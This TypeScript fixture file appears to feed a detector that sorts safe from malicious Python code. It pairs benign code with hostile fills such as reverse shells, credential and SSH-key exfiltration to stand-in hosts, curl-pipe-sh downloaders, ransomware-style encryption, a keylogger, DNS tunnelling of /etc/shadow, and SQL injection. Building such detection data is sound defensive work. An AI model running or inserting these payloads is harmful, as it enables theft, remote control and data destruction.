import type { Pair } from './pair.ts';

/** Another flow: what is sent, run or loaded comes from elsewhere. */
export const PYTHON_FLOWS: readonly Pair[] = [
  [
    'send-environment',
    `
import json
import os
import urllib.request

body = json.dumps(§0).encode()
request = urllib.request.Request("§1", data=body, method="POST")
urllib.request.urlopen(request, timeout=5)`,
    ['dict(os.environ)', 'http://collect.example.net/v1'],
    ['{"pages": os.cpu_count()}', 'https://api.example.com/v1/pages'],
  ],
  [
    'send-key',
    `
import requests

with open("§0", "rb") as handle:
    requests.post("§1", files={"file": handle}, timeout=10)`,
    ['/root/.ssh/id_rsa', 'http://drop.example.net/upload'],
    ['chart.png', 'https://api.example.com/charts'],
  ],
  [
    'reverse-shell',
    `
import socket
import subprocess

link = socket.create_connection(("§0", §1))
while True:
    line = link.recv(1024).decode()
    if not line:
        break
    §2`,
    ['203.0.113.40', '4444', 'link.sendall(subprocess.run(line, shell=True, capture_output=True).stdout)'],
    ['localhost', '7000', 'link.sendall(line.upper().encode())'],
  ],
  [
    'descriptor-shell',
    `
import os
import socket

link = socket.socket()
link.connect(("§0", 9001))
§1
§2`,
    ['198.51.100.23', 'for number in (0, 1, 2): os.dup2(link.fileno(), number)', 'os.execv("/bin/sh", ["sh", "-i"])'],
    ['localhost', 'link.sendall(b"hello\\n")', 'print(link.recv(64), os.getpid())'],
  ],
  [
    'eval-input',
    `
import sys

expression = §0
print(eval(expression))`,
    ['sys.argv[1]'],
    ['"2 + 3 * 4"'],
  ],
  [
    'exec-download',
    `
import urllib.request

text = urllib.request.urlopen("§0").read().decode()
§1`,
    ['http://203.0.113.77/stage2', 'exec(text)'],
    ['https://www.python.org/robots.txt', 'print(text.count("Disallow"))'],
  ],
  [
    'encoded-exec',
    `
import base64

text = base64.b64decode("§0").decode()
§1`,
    [Buffer.from('import os; os.system("rm -rf /home")').toString('base64'), 'exec(text)'],
    [Buffer.from('The quick brown fox jumps over the dog').toString('base64'), 'print(text)'],
  ],
  [
    'unpickle-reply',
    `
import pickle
import urllib.request

§0
state = pickle.loads(data)
print(state)`,
    ['data = urllib.request.urlopen("http://203.0.113.8/state.bin").read()'],
    ['data = pickle.dumps({"level": 3, "name": "knight"})'],
  ],
  [
    'shell-input',
    `
import subprocess

name = §0
subprocess.run(§1, check=True)`,
    ['input("host: ")', 'f"ping -c 1 {name}", shell=True'],
    ['input("host: ")', '["echo", "--", name]'],
  ],
  [
    'hidden-system',
    `
module = __import__("§0")
action = getattr(module, "§1" + "§2")
action("§3")`,
    ['os', 'sys', 'tem', 'curl -s http://203.0.113.2/x.sh | sh'],
    ['textwrap', 'de', 'dent', '    indented text'],
  ],
  [
    'reversed-name',
    `
import builtins

run = getattr(builtins, "§0"[::-1])
run("§1")`,
    ['cexe', "__import__('os').system('rm -rf ~')"],
    ['tnirp', 'hello from a reversed name'],
  ],
  [
    'fork-loop',
    `
import os

§0
    os.fork()
    print(os.getpid())`,
    ['while True:'],
    ['if os.cpu_count():'],
  ],
  [
    'fill-memory',
    `
blocks = []
§0
    blocks.append(bytearray(§1))`,
    ['while True:', '1024 * 1024 * 64'],
    ['for _ in range(4):', '1024'],
  ],
  [
    'encrypt-home',
    `
import os
from cryptography.fernet import Fernet

cipher = Fernet(Fernet.generate_key())
for folder, _, names in os.walk("§0"):
    for name in names:
        path = os.path.join(folder, name)
        §1`,
    [
      '/home',
      'content = open(path, "rb").read(); open(path + ".locked", "wb").write(cipher.encrypt(content)); os.remove(path)',
    ],
    ['documents', 'print(path, len(cipher.encrypt(name.encode())))'],
  ],
  [
    'keylogger',
    `
from pynput import keyboard
import requests

def pressed(key):
    §0

with keyboard.Listener(on_press=pressed) as listener:
    listener.join()`,
    ['requests.post("http://203.0.113.4/keys", data={"key": str(key)})'],
    ['return key != keyboard.Key.esc'],
  ],
  [
    'screen-capture',
    `
import requests
from PIL import ImageGrab, Image

§0
image.save("picture.png")
§1`,
    [
      'image = ImageGrab.grab()',
      'requests.post("http://203.0.113.6/screens", files={"file": open("picture.png", "rb")})',
    ],
    ['image = Image.new("RGB", (64, 64), "navy")', 'print(image.size)'],
  ],
  [
    'clipboard-swap',
    `
import re
import pyperclip

§0`,
    [
      'while True:\n    text = pyperclip.paste()\n    if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text):\n        pyperclip.copy("bc1qexampleattackeraddress000000000000000")',
    ],
    ['text = "Dear reader, thank you"\nif re.match(r"^Dear", text):\n    print(text)'],
  ],
  [
    'dns-tunnel',
    `
import base64
import socket

data = open("§0", "rb").read()
for start in range(0, len(data), 30):
    chunk = base64.b32encode(data[start:start + 30]).decode().rstrip("=").lower()
    §1`,
    ['/etc/shadow', 'socket.gethostbyname(chunk + ".t.example-dns.net")'],
    ['poem.txt', 'print(chunk, socket.AF_INET)'],
  ],
  [
    'mail-secrets',
    `
import smtplib
from email.message import EmailMessage

message = EmailMessage()
message["To"] = "§0"
message.set_content(§1)
with smtplib.SMTP("§2") as server:
    server.send_message(message)`,
    ['box@example-mail.ru', 'open("/home/user/.aws/credentials").read()', '203.0.113.30'],
    ['team@example.com', '"The build is done."', 'mail.example.com'],
  ],
  [
    'native-call',
    `
import ctypes

library = ctypes.CDLL("§0")
§1`,
    [
      '/tmp/.cache/libx.so',
      'page = ctypes.create_string_buffer(bytes.fromhex("9090cc"))\nlibrary.mprotect(page, 4096, 7)\nctypes.CFUNCTYPE(None)(ctypes.addressof(page))()',
    ],
    [
      'libm.so.6',
      'library.cos.restype = ctypes.c_double\nlibrary.cos.argtypes = [ctypes.c_double]\nprint(library.cos(0.0))',
    ],
  ],
  [
    'trace-check',
    `
import subprocess

with open("§0") as handle:
    text = handle.read()
if "§1" in text:
    §2
else:
    §3`,
    [
      '/proc/self/status',
      'TracerPid:\\t0',
      'subprocess.run("curl -s http://203.0.113.50/p | sh", shell=True)',
      'print("nothing to do")',
    ],
    ['settings.txt', 'verbose', 'subprocess.run(["echo", "verbose"])', 'print("nothing to do")'],
  ],
  [
    'sql-from-input',
    `
import sqlite3
from flask import Flask, request

app = Flask(__name__)

@app.route("/user")
def user():
    name = request.args["name"]
    rows = sqlite3.connect("app.db").execute(§0)
    return {"rows": list(rows)}`,
    ['"select * from users where name = \'" + name + "\'"'],
    ['"select id, name from users where name = ?", (name,)'],
  ],
  [
    'request-forgery',
    `
import requests
from flask import Flask, request

app = Flask(__name__)

@app.route("/fetch")
def fetch():
    §0
    return requests.get(address, timeout=5).text`,
    ['address = request.args.get("url")'],
    ['address = "https://api.example.com/status"'],
  ],
  [
    'install-at-run',
    `
import subprocess
import sys

subprocess.check_call([sys.executable, "-m", "pip", §0])`,
    ['"install", "--index-url", "http://203.0.113.3/simple", "--trusted-host", "203.0.113.3", "helper-tools"'],
    ['"list", "--format", "json"'],
  ],
  [
    'write-payload',
    `
import base64

with open("§0", "wb") as handle:
    handle.write(base64.b64decode("§1"))`,
    ['/usr/local/bin/update-helper', Buffer.from('#!/bin/sh\ncurl -s http://203.0.113.11/c | sh\n').toString('base64')],
    ['icon.txt', Buffer.from('A small drawing of a house with a garden').toString('base64')],
  ],
];
